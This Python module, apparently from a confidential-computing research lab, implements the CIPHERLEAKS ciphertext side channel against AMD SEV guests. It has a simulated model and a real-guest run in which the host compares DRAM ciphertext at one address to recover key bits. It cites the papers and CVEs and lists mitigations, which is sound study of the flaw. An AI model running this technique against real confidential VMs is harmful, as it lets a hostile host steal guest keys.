"""Ciphertext side channel: equal plaintext at one address gives equal ciphertext, and the host keeps reading it.

CIPHERLEAKS recovered private keys of constant-time code from the VMSA; later work did the same with memory.
"""

from sevkit.attacks.experiment import Aim, Attack, Expectation, Mitigation, Notebook, Observation, Outcome, Source
from sevkit.attacks.labs import model_lab
from sevkit.attacks.labs.account import BALANCES, BLOCK, Account, find
from sevkit.attacks.labs.guest_lab import GuestLab
from sevkit.model.vcpu import Vcpu
from sevkit.vocabulary import Mode

_KEY = 0b1011001110001011
_BITS = 16
_KEY_FILE = "/root/sevkit-key"  # in a real guest
# One bit per iteration, as in a Montgomery ladder: no branch depends on the key, yet r9 has one of two values.
_PROGRAM = """
    movi rsi, 0x2000
    load rbx, [rsi]
    movi rdi, 0x3000
    movi r10, 1
turn:
    mov r9, rbx
    and r9, r10             ; the bit of this turn
    store [rdi], r9         ; on the stack, as compilers do
    movi r9, 0
    vmmcall
    shr rbx, 1
    jmp turn
"""


def model(note: Notebook) -> Observation:
    """Watch one block of memory over the iterations of a key-dependent loop."""
    note.setup("A guest works through a 16-bit key; each turn it stores the bit at one fixed address.", f"{_KEY:016b}")
    platform = model_lab.machine(note)
    guest = model_lab.guest(note, platform, program=_PROGRAM)
    guest.vm.write(model_lab.DATA, _KEY.to_bytes(8, "little"))
    note.predict("Two plaintexts, one address: two ciphertexts. Which is which tells the key, without any decryption.")

    cpu = Vcpu(guest)
    blocks = []
    for _ in range(_BITS):
        cpu.run()
        blocks.append(platform.host_read(guest.spa(model_lab.OTHER), 16))
    for number in (0, 1, 2):
        note.host(f"Turn {number}: the block reads", blocks[number])
    ones = blocks[0]
    guesses = {sum((block == ones) << bit for bit, block in enumerate(blocks))}
    guesses.add(~guesses.copy().pop() & (1 << _BITS) - 1)
    note.host(
        f"{len(set(blocks))} different blocks in {_BITS} turns; read as bits:",
        " or ".join(f"{g:016b}" for g in sorted(guesses)),
    )
    if len(set(blocks)) > 1 and _KEY in guesses:
        return note.works("deterministic-encryption", "The host has the key, up to swapping 0 and 1.")
    return note.stopped("ciphertext-hiding", "The host reads a constant for pages of the guest: nothing to compare.")


def guest(lab: GuestLab, note: Notebook) -> Observation:
    """Watch one block of a real guest's memory while it stores the bits of a key there, one after the other."""
    note.setup(
        f"A real guest ({lab.guest.spec.mode}) makes a key of 8 bits and stores one bit after the other in a page."
    )
    note.predict("Two plaintexts, one address: two ciphertexts. Which is which tells the key, without any decryption.")
    account = Account(lab, "bits")
    (page,) = find(lab, note, [account])
    lab.guest.run(f"key=$(od -An -N1 -tu1 /dev/urandom) && echo $key >{_KEY_FILE}")
    blocks = [_stored(lab, account, page, number) for number in range(8)]
    note.host(f"The host reads {len(set(blocks))} different texts in 8 turns. The first:", blocks[0][:BLOCK])
    guess = sum((block == blocks[0]) << number for number, block in enumerate(blocks))
    note.host("Read as bits:", f"{guess:08b} or {guess ^ 0xFF:08b}")
    key = int(lab.guest.run(f"cat {_KEY_FILE}").text)
    note.guest("The guest's key was:", f"{key:08b}")
    if key in (guess, guess ^ 0xFF):
        return note.works("deterministic-encryption", "The host has the key, up to swapping 0 and 1.")
    return note.stopped("ciphertext-hiding", "What the host reads does not follow the key.")


def _stored(lab: GuestLab, account: Account, page: int, number: int) -> bytes:
    """The block in DRAM after the guest has stored one bit of its key."""
    zero, one = (account.script(coins) for coins in BALANCES)
    lab.guest.run(f"k=$(cat {_KEY_FILE}); if [ $((k >> {number} & 1)) = 1 ]; then {one} else {zero} fi")
    with lab.host.held():
        return lab.host.read(page, 4 * BLOCK)


_WORKS = Expectation(Outcome.WORKS, "encryption is deterministic and the host reads ciphertext")
ATTACK = Attack(
    name="ciphertext-channel",
    title="Ciphertext side channel",
    aim=Aim.CONFIDENTIALITY,
    summary="The host compares ciphertext of one address over time and learns which values repeat.",
    preconditions=("the host reads guest memory at chosen moments (single stepping)",),
    generations="EPYC 7001 to 9004; parts with ciphertext hiding (9005) close it",
    sources=(
        Source("Li et al., CIPHERLEAKS: Breaking Constant-time Cryptography on AMD SEV, USENIX Security 2021"),
        Source("Li et al., A Systematic Look at Ciphertext Side Channels on AMD SEV-SNP, IEEE S&P 2022"),
        Source("CVE-2020-12966 (AMD-SB-1013), CVE-2021-46744 (AMD-SB-1033)"),
    ),
    expected=dict.fromkeys(Mode, _WORKS) | {Mode.NOSEV: Expectation(Outcome.WORKS, "memory is plaintext")},
    mitigations=(Mitigation.CIPHERTEXT_HIDING, Mitigation.VMSA_REG_PROT),
    mitigated=Expectation(Outcome.STOPPED, "ciphertext-hiding: the host reads a constant"),
    claim="architectural-channels",
    model=model,
    guest=guest,
)
